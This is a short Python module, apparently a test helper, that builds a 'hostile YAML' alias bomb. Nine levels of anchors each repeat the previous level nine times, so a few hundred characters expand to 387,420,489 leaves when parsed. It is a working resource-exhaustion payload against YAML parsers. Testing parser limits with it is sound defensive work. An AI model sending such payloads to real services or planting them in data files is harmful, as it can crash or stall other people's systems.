"""Hostile YAML: small texts that expand to huge values for whoever walks them."""

import itertools


def alias_bomb(levels: int = 9, fan_out: int = 9) -> str:
    """Each level lists the previous one ``fan_out`` times: ``fan_out ** levels`` leaves
    (387,420,489 here) for whoever walks the value, in a few hundred characters."""
    names = "abcdefghijklmnopqrstuvwxyz"
    lines = [f"a: &a [{', '.join(['x'] * fan_out)}]"]
    for previous, name in itertools.pairwise(names[:levels]):
        lines.append(f"{name}: &{name} [{', '.join([f'*{previous}'] * fan_out)}]")
    return "\n".join(lines) + f"\nattention: *{names[levels - 1]}\n"
